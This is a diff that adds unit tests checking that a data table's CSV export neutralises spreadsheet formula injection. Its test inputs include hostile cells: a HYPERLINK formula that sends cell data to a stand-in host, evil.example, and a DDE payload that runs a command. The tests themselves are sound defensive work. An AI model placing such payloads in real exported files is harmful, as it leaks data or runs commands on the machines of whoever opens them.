@@ -60,6 +60,45 @@ describe('data table', () => {
     ).toBe('a,b\r\n"x,y","say ""hi"""\r\n1,2\r\n');
   });
 
+  it('defuses cells a spreadsheet would run as a formula (CSV injection), keeping numbers', () => {
+    const csv = toCsv(
+      ['Name', 'Change'],
+      [
+        ['=HYPERLINK("http://evil.example/?"&A1,"x")', '-4.17'],
+        ["+1+cmd|' /C calc'!A0", '+%4,17'],
+        ['-2+3', '-4,17 %'],
+        ['@SUM(A1:A2)', '-1.234,5'],
+        ['\t=1+1', '-1e-7'],
+        ['\r=1+1', '-12\u00a0345,60'],
+        ['Plain', '0.5'],
+      ],
+    );
+    expect(csv.split('\r\n')).toEqual([
+      'Name,Change',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-4.17`,
+      `"'+1+cmd|' /C calc'!A0","+%4,17"`,
+      `"'-2+3","-4,17 %"`,
+      `"'@SUM(A1:A2)","-1.234,5"`,
+      `"'\t=1+1",-1e-7`,
+      `"'\r=1+1","-12\u00a0345,60"`,
+      'Plain,0.5',
+      '',
+    ]);
+  });
+
+  it('neutralises a hostile cell in the exported file', async () => {
+    render(
+      <DataTable
+        rows={[{ symbol: '=1+2', change: -4.17 }]}
+        columns={columns}
+        rowKey={(r) => r.symbol}
+        caption="Test"
+        filename="t.csv"
+      />,
+    );
+    expect(await exportedCsv()).toBe(`Symbol,Change\r\n"'=1+2",-4.17%\r\n`);
+  });
+
   it('sorts by a column, nulls last, both ways, and pages', async () => {
     render(
       <DataTable
